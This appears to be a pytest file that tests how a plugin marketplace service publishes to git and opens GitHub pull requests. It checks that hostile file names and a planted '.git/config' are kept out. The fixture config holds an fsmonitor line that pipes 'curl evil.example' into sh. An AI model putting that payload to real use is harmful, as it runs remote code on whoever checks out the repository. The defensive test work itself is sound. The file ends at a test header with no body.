"""Publishing to a git repository (publishing/pushing.py and marketplace/pulls.py) with real git: bare repositories
in tmp_path for push mode, the fake GitHub for pull requests, and Claude Code's own validator on what
was published."""
import json
import logging
import subprocess
from itertools import count
from pathlib import Path
from types import SimpleNamespace

import pytest
import requests
from django.db.models import F

from audit.models import Action, AuditEvent
from marketplace import approval
from marketplace.gitrepo import GitError
from marketplace.models import Plugin, Policy, Skill, SkillRevision
from marketplace.sync import sync_marketplace
from publishing import pushing, runs
from publishing.models import Kind, Mode, PublishRun, PublishTarget, Status, Trigger

from .builders import GIT_ENV, GitRepo, catalog, plugin_entry, run_command, skill_md
from .gitservers import GitHTTPServer, Listener
from .test_claude_code_oracle import CLAUDE, claude_env

pytestmark = pytest.mark.django_db
CATALOG = ".claude-plugin/marketplace.json"
SECRET = "ghp_publishSecret0123456789abcdefABCDEF"
_folders = count()


@pytest.fixture
def market(make_repo, synced_marketplace, git_host):
    """Plugins from the marketplace's own repository, from another owner's (`github`) and from a folder
    of a third repository (`git-subdir`)."""
    git_host("others/tools", {"skills/gh/SKILL.md": skill_md("gh", "From another owner.")})
    git_host("others/mono", {"packages/lint/skills/lint/SKILL.md": skill_md("lint", "Lints code."),
                             "packages/lint/.gitattributes": "* text=auto\n", "packages/lint/run.sh": b"lint\r\n",
                             "README.md": "A monorepo.\n"})
    repo = make_repo({
        CATALOG: catalog(
            plugin_entry("ops-kit", version="1.2.0", description="Operations."),
            plugin_entry("tools", source={"source": "github", "repo": "others/tools"}, description="GitHub tools."),
            plugin_entry("lint", source={"source": "git-subdir", "url": "others/mono", "path": "packages/lint"},
                         description="Linters."),
            name="acme-skills",
        ),
        "plugins/ops-kit/.claude-plugin/plugin.json": json.dumps({"name": "ops-kit", "version": "1.2.0"}),
        "plugins/ops-kit/commands/deploy.md": "Deploy the thing.\n",
        "plugins/ops-kit/skills/postmortem/SKILL.md": skill_md("postmortem", "Blameless reviews."),
        # Published byte for byte, whatever .gitattributes the target repository (or a plugin) has.
        "plugins/ops-kit/skills/postmortem/timeline.py": b"print('timeline')\r\n",
        "plugins/ops-kit/skills/runbook/SKILL.md": skill_md("runbook", "On-call runbook."),
    })
    return synced_marketplace(repo, slug="acme")


@pytest.fixture
def own_market(make_repo, synced_marketplace):
    """Plugins from the marketplace's own repository only: `github` sources follow SKILLPORT_GITHUB_URL,
    which the pull-request tests point at the fake GitHub."""
    repo = make_repo(ops_kit({"skills/runbook/SKILL.md": skill_md("runbook", "On-call runbook.")}))
    return synced_marketplace(repo, slug="acme")


@pytest.fixture
def git_target(request):
    """A git target carrying `market` (the `market` fixture unless given) to `url`."""
    def make(url, market=None, **fields) -> PublishTarget:
        market = market or request.getfixturevalue("market")
        target = PublishTarget.objects.create(**{
            "name": "org", "kind": Kind.GIT, "marketplace_name": "acme-org", "repository_url": str(url),
            "owner_name": "Acme Platform", "owner_email": "platform@acme.example", **fields,
        })
        target.marketplaces.set([market])
        return target

    return make


def bare_repository(tmp_path, files=None, name="published") -> Path:
    """A bare repository to publish to: empty, or with one commit of `files` on main."""
    bare = tmp_path / f"{name}.git"
    subprocess.run(["git", "init", "--bare", "--quiet", "--initial-branch=main", str(bare)], check=True)
    if files:
        seed = GitRepo(tmp_path / f"{name}-seed")
        seed.commit(files, "seed")
        seed.git("push", "--quiet", str(bare), "main")
    return bare


def git(bare, *args) -> str:
    return subprocess.run(["git", "--git-dir", str(bare), *args], check=True, capture_output=True,
                          env={**GIT_ENV, "PATH": "/usr/bin:/bin"}).stdout.decode().strip()


def clone(url, tmp_path, branch="main") -> GitRepo:
    """A working copy of a branch of `url`, as anyone would get it."""
    folder = tmp_path / f"clone-{next(_folders)}"
    subprocess.run(["git", "clone", "--quiet", "--branch", branch, str(url), str(folder)], check=True,
                   capture_output=True, env={**GIT_ENV, "PATH": "/usr/bin:/bin"})
    return GitRepo(folder)


def files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and ".git" not in p.relative_to(folder).parts}


def exported(target, tmp_path) -> dict[str, bytes]:
    out = tmp_path / f"export-{next(_folders)}"
    code, text = run_command("export_marketplace", str(out), "--target", target.name)
    assert code == 0, text
    return files(out)


def publish(target, *args) -> dict:
    code, out = run_command("publish", target.name, "--json", *args)
    result = json.loads(out)
    assert code == (1 if result["status"] == Status.FAILED else 0), result
    return result


def ops_kit(extra: dict | None = None) -> dict:
    """A repository of plugin ops-kit alone, with a command, a skill and `extra` ({path in the plugin: content})."""
    return {
        CATALOG: catalog(plugin_entry("ops-kit", version="1.2.0", description="Operations."), name="acme-skills"),
        "plugins/ops-kit/commands/deploy.md": "Deploy the thing.\n",
        "plugins/ops-kit/skills/postmortem/SKILL.md": skill_md("postmortem", "Blameless reviews."),
        **{f"plugins/ops-kit/{path}": content for path, content in (extra or {}).items()},
    }


def published_paths(bare, branch="main") -> set[str]:
    return set(filter(None, git(bare, "ls-tree", "-r", "--name-only", "-z", branch).split("\0")))


def approved_before_names_were_refused(market):
    """Its plugins' synced commits approved, as a Skillport from before their names were refused left them. Now
    approval.settle approves no commit holding a name the sync refuses (test_curated); the build is the last line."""
    assert not Plugin.objects.filter(marketplace=market).exclude(approved_commit="").exists()
    Plugin.objects.filter(marketplace=market).update(approved_commit=F("commit"), approved_entry=F("entry"))


@pytest.fixture
def published_anyway(make_repo, synced_marketplace, git_target, tmp_path):
    """Publish `ops_kit(extra)`, whose names the sync refuses, to a new bare repository, its commit approved as
    an older Skillport did: (the bare repository, the run's result)."""
    def publish_it(extra):
        market = synced_marketplace(make_repo(ops_kit(extra)), slug="acme")
        approved_before_names_were_refused(market)
        bare = bare_repository(tmp_path)
        return bare, publish(git_target(bare, market=market))

    return publish_it


def person_commits(bare, tmp_path, changes: dict, message="A person's edit") -> str:
    """Someone clones the published repository, commits `changes` and pushes them; the new head."""
    work = clone(bare, tmp_path)
    head = work.commit(changes, message)
    work.git("push", "--quiet", "origin", "HEAD:main")
    return head


def test_a_first_publish_into_an_empty_repository_creates_the_branch_with_the_exported_tree(git_target, tmp_path):
    bare = bare_repository(tmp_path)
    target = git_target(bare)
    result = publish(target)
    assert result["status"] == Status.PUBLISHED, result
    assert git(bare, "rev-parse", "main") == result["commit"]
    work = clone(bare, tmp_path)
    assert files(work.path) == exported(target, tmp_path)
    assert b"\r\n" in files(work.path)["plugins/ops-kit/skills/postmortem/timeline.py"]
    assert {entry["name"] for entry in json.loads(files(work.path)[CATALOG])["plugins"]} == {"ops-kit", "tools", "lint"}
    assert work.git("log", "-1", "--format=%an <%ae>|%cn <%ce>") == \
        "Acme Platform <platform@acme.example>|Acme Platform <platform@acme.example>"
    message = work.git("log", "-1", "--format=%B")
    assert message.startswith("Publish acme-org from Skillport: 3 added\n")
    for plugin in ("ops-kit", "tools", "lint"):
        version = PublishTarget.objects.get(pk=target.pk).published[plugin]["version"]
        assert f"- added {plugin} {version}" in message
    assert f"Skillport-Run: {result['id']}" in message
    target.refresh_from_db()
    assert target.published_commit == result["commit"]


def test_hostile_file_names_in_a_plugin_never_reach_the_published_tree(published_anyway):
    """The build goes to git's index as bytes, with no folder in between to refuse a name: names that would
    break the index's NUL-separated records or leave the plugin's folder are left out, and said so."""
    hostile = ["commands/line\nbreak.md", "commands/back\\slash.md", "commands/bell\x07.md", "commands/-rf.md",
               "commands/tab\there.md", "skills/postmortem/new\nline.py"]
    bare, result = published_anyway({name: f"{name!r}\n" for name in hostile})

    assert result["status"] == Status.PUBLISHED, result
    published = published_paths(bare)
    assert {"plugins/ops-kit/commands/deploy.md", "plugins/ops-kit/commands/-rf.md",
            "plugins/ops-kit/skills/postmortem/SKILL.md"} <= published
    assert not any(name.rsplit("/", 1)[-1] in path for name in hostile if name != "commands/-rf.md"
                   for path in published)
    assert all(path.startswith(("plugins/ops-kit/", CATALOG)) for path in published)
    [left_out] = [p["message"] for p in result["problems"] if p["code"] == "files-left-out"]
    assert all(name in left_out for name in hostile if name != "commands/-rf.md")


def test_a_folder_git_keeps_for_itself_is_never_published(make_repo, synced_marketplace, git_target, tmp_path):
    """`.git` in any spelling git reads as its own: checked out in a member's project, its config names commands
    git runs. The sync refuses it in the repository, the build leaves out rows stored before it did, and
    pushing publishes nothing rather than a tree git quietly left a file out of."""
    repo = make_repo(ops_kit())
    payload = b"[core]\n\tfsmonitor = curl evil.example | sh\n"
    repo.commit_tree({
        ".claude-plugin": {"marketplace.json": catalog(plugin_entry("ops-kit", version="1.2.0"),
                                                       name="acme-skills").encode()},
        "plugins": {"ops-kit": {
            "commands": {"deploy.md": b"Deploy the thing.\n", ".GIT": {"config": payload}},
            "skills": {"postmortem": {"SKILL.md": skill_md("postmortem", "Blameless reviews.").encode()}},
        }},
    })
    market = synced_marketplace(repo, slug="acme")
    approved_before_names_were_refused(market)
    skill = Skill.objects.get(marketplace=market, slug="postmortem")
    # A row no sync stores now (migration 0029 removed those stored before).
    skill_md_row = skill.files.get(path="SKILL.md")
    skill.files.create(path=".git/config", size=len(payload), mode="100644", blob=skill_md_row.blob)
    bare = bare_repository(tmp_path)
    target = git_target(bare, market=market)

    result = publish(target)

    assert result["status"] == Status.PUBLISHED, result
    published = published_paths(bare)
    assert "plugins/ops-kit/commands/deploy.md" in published and "plugins/ops-kit/skills/postmortem/SKILL.md" in published
    assert not [path for path in published if ".git/" in path.lower()]
    left_out = " ".join(p["message"] for p in result["problems"] if p["code"] == "files-left-out")
    assert "'.git/config'" in left_out and ".GIT (unsafe-name)" in left_out

    # Given such a file anyway, git's index drops it and carries on: the publish stops instead.
    built = {"plugins/ops-kit/README.md": (False, b"Ops.\n"), "plugins/ops-kit/.Git/config": (False, payload)}
    with pytest.raises(GitError, match=r"git refused 1 of the files to publish \('plugins/ops-kit/\.Git/config'\)"):
        pushing.publish(target, built, "Publish")
    assert git(bare, "rev-parse", "main") == result["commit"]


def test_names_macos_and_windows_take_for_one_are_not_published(published_anyway):
    """Cloned on a Mac, commands/Deploy.md would overwrite commands/deploy.md (or the other way round): neither
    is published, and the run says so."""
    bare, result = published_anyway({"commands/Deploy.md": "Deploy the thing, and send the keys.\n",
                                     "commands/rollback.md": "Roll back.\n"})

    assert result["status"] == Status.PUBLISHED, result
    published = published_paths(bare)
    assert "plugins/ops-kit/commands/rollback.md" in published
    assert not {"plugins/ops-kit/commands/deploy.md", "plugins/ops-kit/commands/Deploy.md"} & published
    left_out = " ".join(p["message"] for p in result["problems"] if p["code"] == "files-left-out")
    assert "commands/Deploy.md (same-name)" in left_out and "commands/deploy.md (same-name)" in left_out


def test_files_of_the_branch_survive_and_only_a_change_makes_a_commit(git_target, market, tmp_path):
    bare = bare_repository(tmp_path, {
        "README.md": "# Our marketplace\n",
        ".github/workflows/ci.yml": "on: push\n",
        # The target's attributes do not rewrite what is published.
        ".gitattributes": "* text=auto eol=lf\n",
        # What Skillport owns is replaced whole: a plugin no longer published does not linger.
        CATALOG: '{"name": "hand-made", "plugins": []}\n',
        "plugins/stale/README.md": "old\n",
    })
    target = git_target(bare)
    first = publish(target)
    assert first["status"] == Status.PUBLISHED, first
    work = clone(bare, tmp_path)
    tree = files(work.path)
    assert tree["README.md"] == b"# Our marketplace\n" and tree[".github/workflows/ci.yml"] == b"on: push\n"
    assert not any(path.startswith("plugins/stale/") for path in tree)
    assert {p: c for p, c in tree.items() if p.startswith((".claude-plugin/", "plugins/"))} == \
        exported(target, tmp_path)
    assert b"\r\n" in tree["plugins/ops-kit/skills/postmortem/timeline.py"]

    again = publish(target)
    assert again["status"] == Status.UNCHANGED and again["commit"] == ""
    assert git(bare, "rev-parse", "main") == first["commit"]

    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)
    changed = publish(target)
    assert changed["status"] == Status.PUBLISHED
    assert git(bare, "rev-list", "--count", "main") == "3"  # the seed, the first publish, this one
    assert git(bare, "rev-parse", "main^") == first["commit"]
    tree = files(clone(bare, tmp_path).path)
    assert not any("postmortem" in path for path in tree) and "plugins/ops-kit/skills/runbook/SKILL.md" in tree
    assert tree["README.md"] == b"# Our marketplace\n"
    assert changed["changes"]["updated"][0]["plugin"] == "ops-kit"
    message = git(bare, "log", "-1", "--format=%B", "main")
    assert message.startswith("Publish acme-org from Skillport: 1 updated\n")
    assert f"- updated ops-kit {changed['changes']['updated'][0]['from']} -> {changed['changes']['updated'][0]['to']}" \
        in message

    market.repo.commit({"plugins/ops-kit/skills/fresh/SKILL.md": skill_md("fresh", "New skill.")})
    sync_marketplace(market.pk)
    synced = publish(target)
    assert synced["status"] == Status.PUBLISHED and git(bare, "rev-parse", "main^") == changed["commit"]
    assert "plugins/ops-kit/skills/fresh/SKILL.md" in files(clone(bare, tmp_path).path)


def test_the_message_names_who_approved_the_published_content(git_target, market, tmp_path, people, rf):
    target = git_target(bare_repository(tmp_path))
    publish(target)
    market.requires_approval = True
    market.save()
    market.repo.commit({"plugins/ops-kit/skills/postmortem/SKILL.md": skill_md("postmortem", "Reviews, revised.")})
    sync_marketplace(market.pk)
    assert publish(target)["status"] == Status.UNCHANGED  # the revision awaits approval
    request = rf.post("/")
    request.user = people["admin"]
    approval.approve(SkillRevision.objects.filter(status=SkillRevision.Status.PENDING), request)
    result = publish(target)
    assert result["status"] == Status.PUBLISHED
    message = git(target.repository_url, "log", "-1", "--format=%B", "main")
    postmortem = Skill.objects.get(name="postmortem")
    approved = next(a for a in result["approvals"] if a["skill"] == postmortem.identifier)
    assert approved["approved_by"] == "root"
    assert f"- {postmortem.identifier} ({postmortem.content_hash[:12]}): approved by root on " in message
    assert b"Reviews, revised." in files(clone(target.repository_url, tmp_path).path)[
        "plugins/ops-kit/skills/postmortem/SKILL.md"]


def test_files_stored_in_several_runs_give_the_same_tree(git_target, market, tmp_path, monkeypatch):
    from publishing import pushing

    whole = git_target(bare_repository(tmp_path, name="whole"))
    publish(whole)
    monkeypatch.setattr(pushing, "BATCH_BYTES", 200)  # a fast-import per file or two
    pieces = git_target(bare_repository(tmp_path, name="pieces"), name="pieces")
    assert publish(pieces)["status"] == Status.PUBLISHED
    trees = [git(target.repository_url, "rev-parse", "main^{tree}") for target in (whole, pieces)]
    assert trees[0] == trees[1]


@pytest.mark.parametrize("plugins", [5, {"ops-kit": {}}, [5, {"name": 3}]])
def test_a_branch_whose_catalogue_is_no_list_of_plugins_has_everything_added(git_target, tmp_path, plugins):
    """What the branch's catalogue lists is what a publish reports as updated rather than added; one that lists
    nothing readable (a person wrote it, or another tool) lists nothing."""
    bare = bare_repository(tmp_path, {CATALOG: json.dumps({"name": "ours", "plugins": plugins})})
    result = publish(git_target(bare))
    assert result["status"] == Status.PUBLISHED, result
    assert clone(bare, tmp_path).git("log", "-1", "--format=%s") == "Publish acme-org from Skillport: 3 added"


def test_a_persons_edit_of_the_published_files_stops_the_publish_until_replaced(git_target, tmp_path):
    bare = bare_repository(tmp_path, {"README.md": "# Ours\n"})
    target = git_target(bare)
    first = publish(target)
    edit = person_commits(bare, tmp_path, {"plugins/ops-kit/commands/deploy.md": "Deploy it my way.\n"})
    published = PublishTarget.objects.get(pk=target.pk).published

    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)
    refused = publish(target)
    assert refused["status"] == Status.FAILED
    assert "plugins/ops-kit/commands/deploy.md" in refused["error"] and "--replace-edits" in refused["error"]
    assert git(bare, "rev-parse", "main") == edit  # nothing pushed
    target.refresh_from_db()
    assert target.published == published and target.published_commit == first["commit"]

    replaced = publish(target, "--replace-edits")
    assert replaced["status"] == Status.PUBLISHED
    assert git(bare, "rev-parse", "main^") == edit  # on top of the person's commit, which stays in history
    work = clone(bare, tmp_path)
    assert files(work.path)["plugins/ops-kit/commands/deploy.md"] == b"Deploy the thing.\n"
    assert {p: c for p, c in files(work.path).items() if p != "README.md"} == exported(target, tmp_path)


def test_a_persons_edit_of_other_files_does_not_block(git_target, tmp_path):
    bare = bare_repository(tmp_path, {"README.md": "# Ours\n"})
    target = git_target(bare)
    publish(target)
    edit = person_commits(bare, tmp_path, {"README.md": "# Ours, better explained\n"})
    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)
    result = publish(target)
    assert result["status"] == Status.PUBLISHED, result
    assert git(bare, "rev-parse", "main^") == edit
    assert files(clone(bare, tmp_path).path)["README.md"] == b"# Ours, better explained\n"


def test_a_branch_that_moves_during_the_publish_is_not_overwritten(git_target, tmp_path, monkeypatch):
    from publishing import pushing

    bare = bare_repository(tmp_path, {"README.md": "# Ours\n"})
    target = git_target(bare)
    publish(target)
    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)
    real_commit, moved = pushing._commit, []

    def commit_then_someone_pushes(*args):
        made = real_commit(*args)
        moved.append(person_commits(bare, tmp_path, {"README.md": "# Meanwhile\n"}))
        return made

    monkeypatch.setattr(pushing, "_commit", commit_then_someone_pushes)
    result = publish(target)
    assert result["status"] == Status.FAILED and "moved while Skillport was publishing" in result["error"]
    assert git(bare, "rev-parse", "main") == moved[0]


def test_a_folder_on_the_server_is_published_to_only_when_local_repositories_are_allowed(git_target, tmp_path,
                                                                                          settings):
    bare = bare_repository(tmp_path)
    target = git_target(bare)
    settings.SKILLPORT_ALLOW_LOCAL_SOURCES = False
    refused = publish(target)
    assert refused["status"] == Status.FAILED and "SKILLPORT_ALLOW_LOCAL_SOURCES" in refused["error"]
    assert git(bare, "for-each-ref") == ""
    settings.SKILLPORT_ALLOW_LOCAL_SOURCES = True
    assert publish(target)["status"] == Status.PUBLISHED
    # Refused before anything reads it: what the folder holds does not reach the run.
    person_commits(bare, tmp_path, {".claude-plugin/marketplace.json": json.dumps({"name": "internal", "plugins": [
        {"name": "private-server-plugin", "version": "9.9.9-internal", "source": "./x"}]})})
    settings.SKILLPORT_ALLOW_LOCAL_SOURCES = False
    refused = publish(target)
    assert refused["status"] == Status.FAILED and "private-server-plugin" not in json.dumps(refused)


@pytest.fixture
def served(tmp_path, settings):
    """A copy of a bare repository on loopback over git's dumb HTTP protocol: it can be read, never pushed to."""
    settings.SKILLPORT_FETCH_ALLOWED_HOSTS = ["127.0.0.1"]
    settings.SKILLPORT_GIT_RETRIES = 0
    server = GitHTTPServer(tmp_path / "http")
    yield server
    server.close()


@pytest.mark.parametrize("failure", ["push-refused", "unreachable"])
def test_a_failed_publish_changes_nothing_and_says_why_without_the_credential(
        failure, git_target, served, tmp_path, caplog, people):
    bare = bare_repository(tmp_path, {"README.md": "# Ours\n"})
    target = git_target(bare, credential=SECRET)
    first = publish(target)
    if failure == "push-refused":
        url = served.publish(clone(bare, tmp_path), "published")
    else:
        listener = Listener()
        listener.close()  # nothing listens there any more
        url = f"http://127.0.0.1:{listener.port}/acme/published.git"
    PublishTarget.objects.filter(pk=target.pk).update(repository_url=url)
    target.refresh_from_db()
    before = PublishTarget.objects.get(pk=target.pk)
    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)

    with caplog.at_level(logging.DEBUG):
        run = runs.publish(target, Trigger.MANUAL, actor=people["admin"])
    assert run.status == Status.FAILED
    if failure == "push-refused":
        assert run.error == f"Pushing to main of {url} failed: the server refused it.", run.error
    else:
        assert run.error == f"Reading {url} failed: nothing answered there.", run.error
    assert git(bare, "rev-parse", "main") == first["commit"]
    after = PublishTarget.objects.get(pk=target.pk)
    assert (after.published, after.published_commit) == (before.published, before.published_commit)
    event = AuditEvent.objects.filter(action=Action.PUBLISH_FAILED).get()
    assert event.extra["run"] == str(run.uid) and event.extra["error"] == run.error and event.actor == people["admin"]
    assert event.extra["detail"]  # git's own words, for admins
    recorded = [json.dumps(run.as_json()), json.dumps(event.extra), caplog.text,
                json.dumps(list(PublishRun.objects.values()), default=str)]
    assert not any(SECRET in text for text in recorded)


def test_the_published_repository_passes_claude_codes_validator_and_ours(git_target, tmp_path):
    if not CLAUDE.exists():
        pytest.fail(f"Claude Code's CLI is missing at {CLAUDE}: `make test` installs it (npm, pinned in the Makefile)")
    bare = bare_repository(tmp_path, {"README.md": "# Ours\n"})
    result = publish(git_target(bare))
    assert result["status"] == Status.PUBLISHED, result
    work = clone(bare, tmp_path)
    checked = subprocess.run([CLAUDE, "plugin", "validate", "--json", str(work.path)],
                             env=claude_env(tmp_path / "home"), capture_output=True, text=True, timeout=120)
    report = json.loads(checked.stdout)
    assert checked.returncode == 0 and report["success"], checked.stdout
    assert not report["manifest"]["errors"], report
    code, out = run_command("validate_marketplace", str(work.path), "--json")
    ours = json.loads(out)
    assert code == 0, ours
    assert [p for p in ours["problems"] if p["severity"] == "error"] == []
    assert ours["counts"]["plugins"] == 3 and ours["counts"]["skills"] == 4  # gh, lint, postmortem, runbook


@pytest.mark.parametrize("kind, credential", [("bitbucket", "BBDC-WRITE"), ("", "deploy-bot:gldt-WRITE")],
                         ids=["bitbucket-data-center-bearer", "gitlab-deploy-token"])
def test_a_self_hosted_git_host_is_published_to_with_its_own_kind_of_token(
        kind, credential, git_target, own_market, fake_github, settings, tmp_path):
    """Off GitHub a publish pushes (pull requests are GitHub's), sending the token as the host takes it: a
    Bitbucket Data Center project token as Bearer, once the host is declared one; a GitLab deploy token under
    the name given before it, on any host."""
    settings.SKILLPORT_FETCH_ALLOWED_HOSTS = ["127.0.0.1"]  # the fake's host: not GitHub here
    path = fake_github.add_repo("acme/published")
    seed = GitRepo(tmp_path / "seed")
    seed.commit({"README.md": "# Acme\n"}, "seed")
    seed.git("push", "--quiet", str(path), "main")
    name, _, token = credential.rpartition(":")
    if name:
        fake_github.add_deploy_token("acme/published", name, token, writes=True)
    else:
        fake_github.add_bearer_token("acme/published", token, writes=True)
    target = git_target(f"{fake_github.base_url}/acme/published.git", own_market, credential=credential)

    if kind:
        failed = runs.publish(target)  # a host of no known kind: Basic, under x-access-token
        assert failed.status == Status.FAILED and token not in failed.error, failed.error
        assert fake_github.repos["acme/published"].git("rev-list", "--count", "main") == "1"
        settings.SKILLPORT_GIT_HOSTS = {"127.0.0.1": kind}
    result = publish(target)
    assert result["status"] == Status.PUBLISHED and not result.get("pull_request"), result
    published = files(clone(path, tmp_path).path)
    assert published.pop("README.md") == b"# Acme\n" and published == exported(target, tmp_path)

    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)
    again = publish(target)
    assert again["status"] == Status.PUBLISHED and again["commit"] != result["commit"]
    assert fake_github.repos["acme/published"].git("rev-parse", "main^") == result["commit"]  # a fast-forward
    assert not any("postmortem" in name for name in files(clone(path, tmp_path / "again").path))
    assert fake_github.pushes[-2:] == [("acme/published", name or "project-token")] * 2


def test_a_token_that_may_only_read_fails_the_publish_clearly(git_target, own_market, fake_github, settings, tmp_path):
    settings.SKILLPORT_FETCH_ALLOWED_HOSTS = ["127.0.0.1"]
    path = fake_github.add_repo("acme/published")
    seed = GitRepo(tmp_path / "seed")
    seed.commit({"README.md": "# Acme\n"}, "seed")
    seed.git("push", "--quiet", str(path), "main")
    fake_github.add_deploy_token("acme/published", "deploy-bot", "gldt-READ")
    target = git_target(f"{fake_github.base_url}/acme/published.git", own_market, credential="deploy-bot:gldt-READ")
    run = runs.publish(target)
    assert run.status == Status.FAILED and "gldt-READ" not in run.error
    assert run.error == f"Pushing to main of {target.repository_url} failed: the credential lacks the permission.", \
        run.error
    assert fake_github.repos["acme/published"].git("rev-list", "--count", "main") == "1"


# --- pull requests on GitHub (the fake) ---------------------------------------------------------

@pytest.fixture
def hosted(fake_github, settings, tmp_path):
    """acme/published on the fake GitHub, a README on main; a writer's token and a reader's."""
    settings.SKILLPORT_GITHUB_URL = fake_github.base_url  # its host is also one git may connect to
    fake_github.add_user("publisher")
    fake_github.add_user("viewer")
    path = fake_github.add_repo("acme/published", writers=["publisher"], readers=["viewer"])
    seed = GitRepo(tmp_path / "hosted-seed")
    seed.commit({"README.md": "# Acme's marketplace\n"}, "seed")
    seed.git("push", "--quiet", str(path), "main")
    return SimpleNamespace(gh=fake_github, repo=fake_github.repos["acme/published"], path=path,
                           url=f"{fake_github.base_url}/acme/published.git",
                           writer=fake_github.issue_token("publisher"), reader=fake_github.issue_token("viewer"))


def test_on_github_a_publish_opens_a_pull_request_and_the_base_stays(git_target, own_market, hosted, tmp_path):
    target = git_target(hosted.url, own_market, credential=hosted.writer)
    base = hosted.repo.branch_sha("main")
    first = publish(target)
    assert first["status"] == Status.PROPOSED, first
    assert hosted.repo.branch_sha("main") == base
    pr = hosted.repo.pulls[1]
    assert first["pull_request"] == f"{hosted.gh.base_url}/acme/published/pull/1"
    assert (pr.state, pr.base, pr.user["login"]) == ("open", "main", "publisher")
    assert pr.head.startswith("skillport/org/") and pr.head_sha == first["commit"]
    title, _, body = hosted.repo.git("log", "-1", "--format=%B", pr.head_sha).partition("\n")
    assert pr.title == title and title.startswith("Publish acme-org from Skillport: 1 added")
    assert pr.body == body.strip() and "- added ops-kit 1.2.0+skillport." in pr.body
    assert hosted.repo.git("rev-parse", f"{pr.head_sha}^") == base
    proposed = files(clone(hosted.path, tmp_path, branch=pr.head).path)
    assert proposed.pop("README.md") == b"# Acme's marketplace\n" and proposed == exported(target, tmp_path)

    again = publish(target)
    assert again["status"] == Status.UNCHANGED and again["pull_request"] == first["pull_request"]
    assert len(hosted.repo.pulls) == 1

    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)
    newer = publish(target)
    assert newer["status"] == Status.PROPOSED and newer["pull_request"].endswith("/pull/2")
    # Changes are told against the branch, which the unmerged first pull request never changed.
    assert [c["plugin"] for c in newer["changes"]["added"]] == ["ops-kit"] and newer["changes"]["updated"] == []
    assert (pr.state, hosted.repo.pulls[2].state) == ("closed", "open") and pr.merged_at is None
    assert [c["body"] for c in pr.comments] == [
        f"Superseded by #2 ({newer['pull_request']}), which Skillport opened with newer content."]
    assert hosted.repo.branch_sha(pr.head) is None  # its branch is gone with it
    assert hosted.repo.branch_sha("main") == base

    hosted.gh.merge_pull("acme/published", 2)
    merged = publish(target)
    assert merged["status"] == Status.UNCHANGED and len(hosted.repo.pulls) == 2
    published = files(clone(hosted.path, tmp_path).path)
    assert published.pop("README.md") == b"# Acme's marketplace\n" and published == exported(target, tmp_path)
    assert not any("postmortem" in path for path in published)


def test_a_forks_pull_request_named_like_skillports_is_left_open(git_target, own_market, hosted, tmp_path):
    """A newer publish closes the pull requests Skillport opened, known by their branch under skillport/<target>/.
    A fork's branch may be named so too: that pull request is a person's, and stays open, its branch untouched."""
    fork = hosted.gh.add_repo("viewer/published", writers=["viewer"])
    work = GitRepo(tmp_path / "fork-work")
    work.commit({"README.md": "# A reader's idea\n"}, "idea")
    work.git("push", "--quiet", str(fork), "HEAD:refs/heads/skillport/org/0123456789ab")
    hosted.repo.git("branch", "skillport/org/0123456789ab", "main")  # a branch of that name here too
    answer = requests.post(f"{hosted.gh.base_url}/api/v3/repos/acme/published/pulls", timeout=10,
                           headers={"Authorization": f"Bearer {hosted.reader}"},
                           json={"title": "An idea", "head": "viewer:skillport/org/0123456789ab", "base": "main"})
    assert answer.status_code == 201, answer.text
    theirs = hosted.repo.pulls[answer.json()["number"]]

    target = git_target(hosted.url, own_market, credential=hosted.writer)
    first = publish(target)
    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)
    newer = publish(target)
    assert first["status"] == newer["status"] == Status.PROPOSED
    ours = [pr for pr in hosted.repo.pulls.values() if pr is not theirs]
    assert [pr.state for pr in ours] == ["closed", "open"]  # Skillport's first, superseded by its second
    assert theirs.state == "open" and theirs.comments == []
    assert fork.exists() and hosted.repo.branch_sha("skillport/org/0123456789ab") is not None


def test_of_a_garbled_list_of_pull_requests_only_the_repositorys_own_are_taken(tmp_path, monkeypatch):
    """GitHub's answer is read, not trusted: a head that is no object, a fork since deleted (no repository), a fork's
    branch, and what is no pull request are passed over; the repository's own, however its name is cased, is not."""
    from allauth.socialaccount.providers.github.views import GitHubOAuth2Adapter

    from marketplace import pulls

    def pull(number, head):
        return {"number": number, "html_url": f"https://github.example/acme/published/pull/{number}", "head": head}

    listed = [pull(1, ["not", "an", "object"]), pull(2, {"ref": "skillport/org/a", "repo": None}),
              pull(3, {"ref": "skillport/org/b", "repo": {"full_name": "mallory/published"}}),
              pull(4, {"ref": "skillport/org/c", "repo": {"full_name": "Acme/Published"}}), "not a pull request",
              pull(5, {"ref": ["skillport/org/d"], "repo": {"full_name": "acme/published"}})]
    (tmp_path / "api/repos/acme/published").mkdir(parents=True)
    (tmp_path / "api/repos/acme/published/pulls").write_text(json.dumps(listed))
    server = GitHTTPServer(tmp_path / "api")  # serves the answer from a file, whatever the query
    monkeypatch.setattr(GitHubOAuth2Adapter, "api_url", f"http://127.0.0.1:{server.port}")
    try:
        assert pulls.Client("acme/published", "token").open_pulls(base="main") == [
            {"number": 4, "url": "https://github.example/acme/published/pull/4", "branch": "skillport/org/c"}]
    finally:
        server.close()


@pytest.mark.parametrize("who", ["reader", "stranger"])
def test_a_credential_that_may_not_push_fails_clearly(who, git_target, own_market, hosted, caplog):
    token = hosted.reader if who == "reader" else SECRET
    target = git_target(hosted.url, own_market, credential=token)
    base = hosted.repo.branch_sha("main")
    run = runs.publish(target)
    assert run.status == Status.FAILED
    if who == "reader":
        assert run.error.startswith("Pushing to skillport/org/") and \
            run.error.endswith(f" of {hosted.url} failed: the credential lacks the permission."), run.error
    else:
        assert run.error == f"Reading {hosted.url} failed: the credential was refused (or none is set).", run.error
    assert hosted.repo.pulls == {} and hosted.repo.branch_sha("main") == base
    assert hosted.repo.git("for-each-ref", "refs/heads/skillport") == ""
    event = AuditEvent.objects.get(action=Action.PUBLISH_FAILED)
    assert not any(token in text for text in [run.error, json.dumps(event.extra), caplog.text])


def test_push_mode_on_github_proposes_what_would_undo_a_persons_edit(git_target, own_market, hosted, tmp_path):
